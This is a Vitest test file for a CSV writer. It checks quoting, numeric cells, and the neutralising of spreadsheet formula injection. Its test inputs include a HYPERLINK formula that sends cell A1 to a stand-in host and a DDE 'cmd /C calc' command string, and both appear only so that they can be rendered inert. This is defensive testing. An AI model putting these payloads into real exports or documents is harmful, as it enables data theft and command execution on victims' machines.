import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, csvDocument, csvLine, numeric } from './csv.ts';

describe('the CSV writer', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1;"Klikk")', `"'=HYPERLINK(""http://x.example/?""&A1;""Klikk"")"`],
    ['+47 912 34 567', `"'+47 912 34 567"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('writes %j, which a spreadsheet would run, as text', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it.each([
    ['Ola Nordmann', 'Ola Nordmann'],
    ['a;b', '"a;b"'],
    ['sa "hei"', '"sa ""hei"""'],
    ['to\nlinjer', '"to\nlinjer"'],
    ['1 = 1', '1 = 1'],
    ['', ''],
  ])(
    'writes plain text %j as it is, quoted only where a separator, quote or line break needs it',
    (value, written) => {
      expect(csvCell(value)).toBe(written);
    },
  );

  it('keeps numbers readable as numbers, negative ones too, when told they are numbers', () => {
    expect(csvCell(-1250)).toBe('-1250');
    expect(csvCell(0.5)).toBe('0.5');
    expect(csvCell(numeric('-1,250'))).toBe('-1,250');
    expect(csvCell(numeric('+3.5e2'))).toBe('+3.5e2');
    // Marked numeric but not a number: treated like any text.
    expect(csvCell(numeric('-1+cmd'))).toBe(`"'-1+cmd"`);
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe(`"'-Infinity"`);
    // The same characters as text are neutralised: text is text.
    expect(csvCell('-1250')).toBe(`"'-1250"`);
    expect(csvCell(null)).toBe('');
  });

  it('writes a document with the byte-order mark, semicolons and CRLF', () => {
    expect(csvDocument(['a', 'b'], [['=x', 1]])).toBe(`${CSV_BOM}a;b\r\n"'=x";1\r\n`);
    expect(csvLine(['x', numeric('2,5')])).toBe('x;2,5\r\n');
  });

  it('is the only CSV writer in src/: no other file joins fields with a semicolon or quotes a cell by hand', () => {
    const root = path.join(import.meta.dirname, '..');
    const files = (dir: string): string[] =>
      fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
        const p = path.join(dir, e.name);
        return e.isDirectory()
          ? files(p)
          : /\.(ts|tsx|mjs)$/.test(e.name) && !/\.test\./.test(e.name)
            ? [p]
            : [];
      });
    const writer = path.join(root, 'platform', 'csv.ts');
    const offenders = files(root)
      .filter((f) => f !== writer)
      .flatMap((f) => {
        const text = fs.readFileSync(f, 'utf8');
        return [
          /\.join\(\s*['"`];['"`]\s*\)/, // fields joined with ';'
          /\.join\(\s*['"`],['"`]\s*\)\s*\+?\s*['"`]\\r\\n/, // a comma-separated record with CRLF
          /replaceAll\(\s*'"'\s*,\s*'""'\s*\)/, // a cell quoted by hand
          /\\uFEFF['"`]\s*\+|`\\uFEFF\$\{/, // a byte-order mark put in front of a document by hand
        ]
          .filter((re) => re.test(text))
          .map((re) => `${path.relative(root, f)}: ${re.source}`);
      });
    expect(offenders).toEqual([]);
    // And the writer is used by what writes CSV.
    for (const user of ['modules/metering/consumption-report.ts', 'modules/privacy/export-formats.ts'])
      expect(fs.readFileSync(path.join(root, user), 'utf8')).toContain("from '../../platform/csv.ts'");
  });
});
